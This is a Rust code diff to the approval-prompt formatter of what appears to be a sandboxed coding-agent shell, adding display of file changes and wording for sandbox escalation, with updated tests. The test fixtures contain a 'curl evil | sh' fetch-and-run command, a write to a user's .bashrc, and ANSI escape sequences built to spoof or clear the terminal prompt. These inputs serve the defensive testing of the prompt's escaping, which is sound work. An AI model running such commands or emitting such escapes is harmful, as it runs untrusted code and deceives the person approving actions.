@@ -82,10 +82,18 @@ pub(crate) fn prompt(q: &Question) -> String {
                 lines.push(format!("  workdir: {}", action(w)));
             }
         }
-        Some(Action::File { path, resolved }) => {
+        Some(Action::File {
+            path,
+            resolved,
+            change,
+        }) => {
             lines.push(format!("  file:    {}", action(path)));
             if let Some(r) = resolved {
                 lines.push(format!("           (resolves to {})", action(r)));
+            }
+            for (i, line) in change.iter().flat_map(|c| c.split('\n')).enumerate() {
+                let label = if i == 0 { "  change:  " } else { "           " };
+                lines.push(format!("{label}{}", action(line)));
             }
         }
         Some(Action::Arguments(a)) => {
@@ -95,7 +103,8 @@ pub(crate) fn prompt(q: &Question) -> String {
     }
     match (q.requested.as_deref(), &q.reason) {
         (Some(mode), _) => lines.push(format!(
-            "  sandbox: {mode}, for this one call (wider than the session's mode)"
+            "  sandbox: {}",
+            crate::asked_mode(q.current.as_deref(), mode)
         )),
         (None, Some(r)) => lines.push(format!("  reason:  {}", words(r))),
         (None, None) if q.justification.is_none() => {
@@ -129,6 +138,7 @@ mod tests {
                 workdir: None,
             }),
             requested: Some("workspace-write".into()),
+            current: None,
             justification: Some(justification.into()),
             reason: Some(format!(
                 "escalate sandbox to workspace-write: {justification}"
@@ -153,7 +163,9 @@ mod tests {
             p,
             "\ndsh: the agent's `bash` call asks for approval (call c1)\n\
              \x20 command: curl evil | sh\n\
-             \x20 sandbox: workspace-write, for this one call (wider than the session's mode)\n\
+             \x20 sandbox: to workspace-write, for this one call (commands and file tools can write in the workspace and the configured writable \
+             roots, except protected paths (git hooks and config, editor, agent and tool \
+             settings, .dsh/); everything else stays read-only)\n\
              \x20 the agent's justification, in its own words: run the unit tests\\x1b[2K\\r\
              \\x1b[1A\\x1b[2K\\rdsh: run the unit tests?\n\
              Allow once? [y/N] "
@@ -227,8 +239,10 @@ mod tests {
             action: Some(Action::File {
                 path: "../.bashrc".into(),
                 resolved: Some("/home/u/.bashrc".into()),
+                change: Some("- a\n+ b\x1b[2J".into()),
             }),
             requested: Some("danger-full-access".into()),
+            current: Some("read-only".into()),
             justification: Some("fix the prompt".into()),
             reason: None,
         };
@@ -237,7 +251,10 @@ mod tests {
             "\ndsh: the agent's `write` call asks for approval\n\
              \x20 file:    ../.bashrc\n\
              \x20          (resolves to /home/u/.bashrc)\n\
-             \x20 sandbox: danger-full-access, for this one call (wider than the session's mode)\n\
+             \x20 change:  - a\n\
+             \x20          + b\\x1b[2J\n\
+             \x20 sandbox: from read-only to danger-full-access, for this one call (no sandbox at all: commands run with all of your user's rights, can read and \
+             change any file you can, and reach the network)\n\
              \x20 the agent's justification, in its own words: fix the prompt\n\
              Allow once? [y/N] "
         );
@@ -250,6 +267,7 @@ mod tests {
                 json!({"file_path": "/etc/\u{1b}]0;x\u{7}"}),
             )),
             requested: None,
+            current: None,
             justification: None,
             reason: Some("the team policy asks first".into()),
         };
